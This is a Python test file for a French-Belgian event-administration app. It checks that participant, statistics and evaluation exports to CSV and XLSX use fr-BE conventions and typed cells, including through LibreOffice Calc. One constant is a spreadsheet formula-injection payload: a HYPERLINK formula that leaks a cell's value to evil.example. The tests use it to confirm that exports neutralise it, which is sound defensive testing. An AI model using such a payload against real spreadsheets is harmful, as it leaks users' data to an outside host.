"""Every export read back the way a Belgian-French spreadsheet reads it: CSV with `;` and
decimal commas, XLSX with typed cells (numbers, dates, text safe by its type), labels not
codes; and, when LibreOffice is installed, one CSV and one XLSX opened by Calc itself."""

import csv
import io
import shutil
import subprocess
from datetime import datetime

import pytest
from openpyxl import load_workbook

from tests.admin.conftest import sign_in
from tests.admin.test_evaluations import evaluated  # noqa: F401 (a fixture)
from tests.edge import rules
from tests.factories import PERSON, local
from webapp.agenda.reports import Report
from webapp.extensions import db

TRAP = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# Calc's CSV filter: `;`, `"`, UTF-8, from line 1, default columns, language fr-BE (2060):
# what the import dialog of a fr-BE machine proposes.
FR_BE_CSV = "CSV:59,34,76,1,,2060"


def csv_rows(response):
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.get_data())).active


def _participants(make_event):
    event = make_event(title="Concertation liaison ambulatoire-hôpital", capacity=1)
    rules.register(
        event.id, PERSON | {"first_name": TRAP, "last_name": "Désiré", "sector": "hopital"}
    )
    rules.register(event.id, PERSON | {"email": "b@example.org", "last_name": "Éloïse"})
    return event


PARTICIPANT_COLUMNS = ["last_name", "first_name", "sector", "position", "registered_at"]


def test_the_stats_csv_writes_decimals_with_a_comma(client, make_staff, make_event):
    for start, count in ((local(2026, 4, 7, 9, 30), 25), (local(2026, 5, 7, 9, 30), 8)):
        event = make_event(start=start, kind="rencontre")
        db.session.add(Report(event_id=event.id, status="published", participants_count=count))
    db.session.commit()
    sign_in(client, make_staff("bassin", bassins=("sud",)))
    rows = csv_rows(client.get("/admin/stats.csv?year=2026"))
    assert all(len(row) == len(rows[0]) == 3 for row in rows)
    averages = {row[1]: row[2] for row in rows if row[0].endswith("par type")}
    assert averages["Rencontre"] == "16,5"  # (25 + 8) / 2, read as a number in fr-BE


def test_the_participants_csv_and_xlsx_type_numbers_dates_and_labels(sud_client, make_event):
    event = _participants(make_event)
    rows = csv_rows(
        sud_client.get(
            f"/admin/events/{event.id}/participants.csv",
            query_string={"column": PARTICIPANT_COLUMNS},
        )
    )
    by_name = {row[0]: row for row in rows[1:]}
    desire, eloise = by_name["Désiré"], by_name["Éloïse"]
    assert desire[1] == "'" + TRAP  # the apostrophe protects the CSV
    assert desire[2].startswith("Hôpital (") and desire[3] == ""  # a sector's name, not `hopital`
    assert eloise[3] == "1"  # first on the waitlist
    assert datetime.strptime(desire[4], "%Y-%m-%d %H:%M")

    sheet = xlsx_sheet(
        sud_client.get(
            f"/admin/events/{event.id}/participants.xlsx",
            query_string={"column": PARTICIPANT_COLUMNS},
        )
    )
    assert sheet.freeze_panes == "A2"
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    desire, eloise = rows["Désiré"], rows["Éloïse"]
    assert desire[1].value == TRAP and desire[1].data_type == "s"
    assert desire[2].value.startswith("Hôpital (")
    assert eloise[3].value == 1 and eloise[3].data_type == "n"
    assert isinstance(desire[4].value, datetime) and desire[4].is_date


def test_the_evaluation_exports_use_semicolons_numbers_and_labels(sud_client, evaluated):  # noqa: F811
    """Counts per value and the mean (issue 20: never an answer's row), typed: counts and the
    mean are numbers, sectors their names, a text that looks like a formula a string."""
    rows = csv_rows(sud_client.get(f"/admin/events/{evaluated.id}/evaluation.csv"))
    header = rows[0]
    assert header == ["Réponses", "Question", "Réponse", "Nombre"]
    assert all(len(row) == len(header) for row in rows)
    usefulness = "Cette rencontre vous a-t-elle été utile ?"
    counts = {row[2]: row[3] for row in rows if row[1] == usefulness}
    assert counts["Moyenne (1 à 5)"] == "3,83"  # 23 / 6, a decimal comma for fr-BE
    sectors = {row[2]: row[3] for row in rows if row[1] == "Votre secteur (facultatif)"}
    assert sectors["Social"] == "4" and sectors["Hôpital"] == "2"  # names, never "hopital"
    assert "hopital" not in sectors and "social" not in sectors

    sheet = xlsx_sheet(sud_client.get(f"/admin/events/{evaluated.id}/evaluation.xlsx"))
    assert sheet.freeze_panes == "A2"
    lines = list(sheet.iter_rows(min_row=2))
    scores = [line[3] for line in lines if line[1].value == usefulness]
    assert all(c.data_type == "n" for c in scores)  # SUM and AVERAGE work on them
    mean = [line[3].value for line in lines if line[2].value == "Moyenne (1 à 5)"]
    assert mean[0] == pytest.approx(23 / 6, abs=0.01)
    trap = [c for line in lines for c in line if str(c.value).startswith("=HYPERLINK")]
    assert len(trap) == 1 and trap[0].data_type == "s"


def _calc(tmp_path, source, target, infilter=None):
    """Open `source` in LibreOffice Calc (headless) and save it as `target` ("xlsx", "csv")."""
    command = [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", target, "--outdir", str(tmp_path / "out"), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return tmp_path / "out" / f"{source.stem}.{target.split(':')[0]}"


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_in_fr_be_opens_a_csv_and_an_xlsx_with_their_types(
    tmp_path, sud_client, make_event
):
    event = _participants(make_event)
    query = {"column": PARTICIPANT_COLUMNS}
    url = f"/admin/events/{event.id}/participants"
    source = tmp_path / "participants.csv"
    source.write_bytes(sud_client.get(f"{url}.csv", query_string=query).get_data())
    sheet = load_workbook(_calc(tmp_path, source, "xlsx", FR_BE_CSV)).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    print("Calc, CSV:", [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()])
    assert [c.value for c in sheet[1]] == [
        "Nom",
        "Prénom",
        "Secteur",
        "Place en liste d'attente",
        "Inscrit·e le",
    ]
    assert rows["Éloïse"][3].value == 1 and rows["Éloïse"][3].data_type == "n"
    assert rows["Désiré"][4].is_date  # Calc read the ISO date and time as a date
    assert rows["Désiré"][1].data_type == "s" and rows["Désiré"][1].value == "'" + TRAP

    source = tmp_path / "typed.xlsx"
    source.write_bytes(sud_client.get(f"{url}.xlsx", query_string=query).get_data())
    resaved = load_workbook(_calc(tmp_path, source, "xlsx")).active
    rows = {row[0].value: row for row in resaved.iter_rows(min_row=2)}
    print("Calc, XLSX:", [[(c.value, c.data_type) for c in row] for row in resaved.iter_rows()])
    assert rows["Désiré"][1].value == TRAP and rows["Désiré"][1].data_type == "s"
    assert rows["Éloïse"][3].data_type == "n" and rows["Désiré"][4].is_date
    # As Calc shows it: the text as typed, never run as a formula.
    shown = _calc(tmp_path, source, "csv:Text - txt - csv (StarCalc):59,34,76").read_text("utf-8")
    print("Calc, XLSX shown as CSV:", shown)
    assert TRAP.replace('"', '""') in shown and "evil.example" in shown


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_in_fr_be_reads_the_stats_decimals_as_numbers(
    tmp_path, client, make_staff, make_event
):
    for start, count in ((local(2026, 4, 7, 9, 30), 25), (local(2026, 5, 7, 9, 30), 8)):
        event = make_event(start=start, kind="rencontre")
        db.session.add(Report(event_id=event.id, status="published", participants_count=count))
    db.session.commit()
    sign_in(client, make_staff("bassin", bassins=("sud",)))
    source = tmp_path / "stats.csv"
    source.write_bytes(client.get("/admin/stats.csv?year=2026").get_data())
    sheet = load_workbook(_calc(tmp_path, source, "xlsx", FR_BE_CSV)).active
    averages = {
        row[1].value: row[2] for row in sheet.iter_rows(min_row=2) if row[0].value.endswith("type")
    }
    print("Calc, stats:", [(label, c.value, c.data_type) for label, c in averages.items()])
    assert averages["Rencontre"].value == 16.5 and averages["Rencontre"].data_type == "n"
